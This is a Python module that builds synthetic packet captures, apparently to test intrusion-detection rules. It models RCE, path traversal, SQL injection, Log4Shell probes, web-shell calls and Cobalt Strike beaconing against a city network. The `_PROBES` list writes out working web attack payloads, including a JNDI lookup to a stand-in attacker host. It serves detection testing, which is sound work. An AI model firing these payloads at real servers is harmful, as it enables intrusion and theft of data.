"""Crafted scenes that somebody should look at: what the rules of the pack find in a capture of a city's extranet.

The attack on the portal is the one that the demonstration's access log tells, here as the tap saw it. Addresses and
names are synthetic, as in every scene (sensors.capture.craft).
"""

import struct
from typing import Final

from sensors.capture.crafting import AGENT, CLIENT, CONTROLLER, MILLISECOND, Scene
from sensors.capture.handshakes import SEALED, TLS_1_0, certificate, client_hello, server_hello
from sensors.capture.writing import Frame

PORTAL: Final = "10.20.0.80"
OFFICE: Final = "10.12.8.20"
SWITCH: Final = "10.30.0.1"
INTRUDER: Final = "203.0.113.199"
CONTRACTOR: Final = "198.51.100.9"
_SECOND: Final = 1_000 * MILLISECOND

_PROBES: Final = (
    (
        "GET",
        "/index.php?s=/index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        AGENT, 404,
    ),
    ("GET", "/..%2f..%2f..%2fetc/passwd", AGENT, 200),
    ("GET", "/bsfw/list.html?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "sqlmap/1.8", 500),
    ("GET", "/?x=${jndi:ldap://203.0.113.199/a}", AGENT, 200),
    ("POST", "/upload/images/x.jsp", AGENT, 200),
    ("POST", "/upload/images/x.jsp?cmd=whoami", AGENT, 200),
)


def portal_attack(start: int) -> list[Frame]:
    """Somebody outside looks for a way into the portal, nine seconds a try, and calls the shell that was left there."""
    scene = Scene(start)
    for number, (method, target, agent, status) in enumerate(_PROBES):
        request = f"{method} {target} HTTP/1.1\r\nHost: portal.gov.example\r\nUser-Agent: {agent}\r\n"
        request += "Content-Length: 0\r\n\r\n" if method == "POST" else "\r\n"
        response = f"HTTP/1.1 {status} synthetic\r\nContent-Type: text/html\r\nContent-Length: 9\r\n\r\nsynthetic"
        scene.exchange(INTRUDER, PORTAL, (45_000 + number, 80), (True, request.encode()), (False, response.encode()))
        scene.wait(9 * _SECOND)
    return scene.frames


def remote_desktop_from_outside(start: int) -> list[Frame]:
    """A remote desktop of an office, reached from the Internet: it accepts and asks for TLS ([MS-RDPBCGR] 2.2.1)."""
    scene = Scene(start)
    cookie = b"Cookie: mstshash=synthetic\r\n"
    asked = b"\xe0\x00\x00\x00\x00\x00" + cookie + b"\x01\x00\x08\x00\x03\x00\x00\x00"
    confirmed = b"\xd0\x00\x00\x12\x34\x00" + b"\x02\x00\x08\x00\x01\x00\x00\x00"
    opening = [(mine, _transport(body)) for mine, body in ((True, asked), (False, confirmed))]
    hellos = [(True, client_hello("rdp.gov.example")), (False, server_hello() + SEALED), (True, SEALED)]
    scene.exchange(INTRUDER, OFFICE, (46_000, 3_389), *opening, *hellos, (False, SEALED))
    return scene.frames


def _transport(body: bytes) -> bytes:
    """A unit of ISO transport over TCP (RFC 1006 section 6, X.224): its length, then a header with its own."""
    return struct.pack(">BBHB", 3, 0, len(body) + 5, len(body)) + body


def telnet_administration(start: int) -> list[Frame]:
    """A switch that is administered by Telnet (RFC 854): the password and what is typed cross the network in clear."""
    scene = Scene(start)
    typed = ("synthetic", "not-a-password", "enable", "not-a-password", "show version", "show vlan brief", "exit")
    told = ("Username: ", "Password: ", "sw-synthetic>", "Password: ", "sw-synthetic#", "synthetic OS 1.0\r\n" * 4)
    turns = [(False, b"\xff\xfd\x18\xff\xfb\x01" + told[0].encode())]
    for line, answer in zip(typed, (*told[1:], "VLAN 10 synthetic\r\n" * 4, "bye\r\n"), strict=True):
        turns += [(True, f"{line}\r\n".encode()), (False, answer.encode())]
    scene.exchange(CLIENT, SWITCH, (47_000, 23), *turns)
    return scene.frames


def controller_from_outside(start: int) -> list[Frame]:
    """A contractor's host outside sets up S7 communication with a controller and reads what it is.

    ISO transport over TCP (RFC 1006) from rack 0, slot 2; the frames of S7 are as Wireshark's s7comm reads them.
    """
    scene = Scene(start)
    asked = bytes.fromhex("e00000000100c1020100c2020102c0010a")
    agreed = bytes.fromhex("d00001000200c0010ac1020100c2020102")
    setup = bytes.fromhex("320100000000000800 00f0000001000101e0")
    answer = bytes.fromhex("3203000000000008000000 00f0000001000100f0")
    identify = bytes.fromhex("32070000010000080008 0001120411440100 ff09000400110001")
    identity = bytes.fromhex("320700000100000c0028 000112081284010100000000 ff090024 00110001001c00010001")
    identity += b"synthetic CPU".ljust(20) + bytes(6)
    scene.exchange(
        CONTRACTOR, CONTROLLER, (48_000, 102),
        (True, _transport(asked)), (False, _transport(agreed)), (True, _data(setup)), (False, _data(answer)),
        (True, _data(identify)), (False, _data(identity)),
    )
    return scene.frames


def _data(body: bytes) -> bytes:
    """A data unit of ISO transport: its header is two octets behind the length (X.224 section 13.7)."""
    return struct.pack(">BBHBBB", 3, 0, len(body) + 7, 2, 0xF0, 0x80) + body


def obsolete_tls(start: int) -> list[Frame]:
    """An application of a unit that still speaks TLS 1.0, and does (RFC 8996 forbids it)."""
    scene = Scene(start)
    hello = client_hello("oa.gov.example", (0xC013, 0x002F, 0x000A), versions=(0x0302, TLS_1_0))
    scene.exchange(
        CLIENT, "10.40.0.25", (49_000, 443), (True, hello), (False, server_hello(0x002F, version=TLS_1_0) + SEALED),
        (True, SEALED), (False, SEALED),
    )
    return scene.frames


def beacon(start: int, calls: int = 3) -> list[Frame]:
    """A host inside calls a Cobalt Strike server every minute, which shows the certificate that the tool comes with."""
    scene = Scene(start)
    subject = {
        "C": "Earth", "ST": "Cyberspace", "L": "Somewhere", "O": "cobaltstrike", "OU": "AdvancedPenTesting",
        "CN": "Major Cobalt Strike",
    }
    shown = certificate(subject, 0x08BB00EE)
    for number in range(calls):
        scene.exchange(
            CLIENT, "203.0.113.50", (49_100 + number, 443), (True, client_hello("cdn.synthetic.test")),
            (False, server_hello() + shown), (True, SEALED), (False, SEALED),
        )
        scene.wait(60 * _SECOND)
    return scene.frames


def teredo(start: int) -> list[Frame]:
    """A host asks a Teredo server for an IPv6 prefix through the border, and gets it (RFC 4380 section 5.2.1)."""
    scene = Scene(start)
    y = scene.layers
    server = "192.0.2.98"
    asked = y.IPv6(src="fe80::8000:ffff:ffff:fffd", dst="ff02::2", hlim=255) / y.ICMPv6ND_RS()
    told = y.IPv6(src="fe80::8000:ffff:ffff:fffe", dst="fe80::8000:ffff:ffff:fffd", hlim=255) / y.ICMPv6ND_RA()
    told /= y.ICMPv6NDOptPrefixInfo(prefix="2001:0:c000:262::", prefixlen=64)
    scene.send(y.IP(src=CLIENT, dst=server) / y.UDP(sport=51_000, dport=3_544) / y.Raw(bytes(asked)))
    scene.send(y.IP(src=server, dst=CLIENT) / y.UDP(sport=3_544, dport=51_000) / y.Raw(bytes(told)))
    return scene.frames


def files_to_outside(start: int) -> list[Frame]:
    """A host inside opens a share on the Internet: SMB2 is negotiated across the border ([MS-SMB2] 2.2.3)."""
    scene = Scene(start)
    asked = _smb2(0) + struct.pack("<HHHHI", 36, 2, 1, 0, 0) + b"\x5a" * 16 + bytes(8)
    asked += struct.pack("<HH", 0x0202, 0x0210)
    told = _smb2(1) + struct.pack("<HHHH", 65, 1, 0x0210, 0) + b"\xa5" * 16 + bytes(40)
    turns = [(mine, struct.pack(">I", len(body)) + body) for mine, body in ((True, asked), (False, told))]
    scene.exchange(CLIENT, "198.51.100.23", (51_100, 445), *turns)
    return scene.frames


def _smb2(flags: int) -> bytes:
    """The header of a negotiation ([MS-SMB2] 2.2.1.2); flag 1 is set in answers."""
    return b"\xfeSMB" + struct.pack("<HHIHHI", 64, 0, 0, 0, 1, flags) + bytes(44)
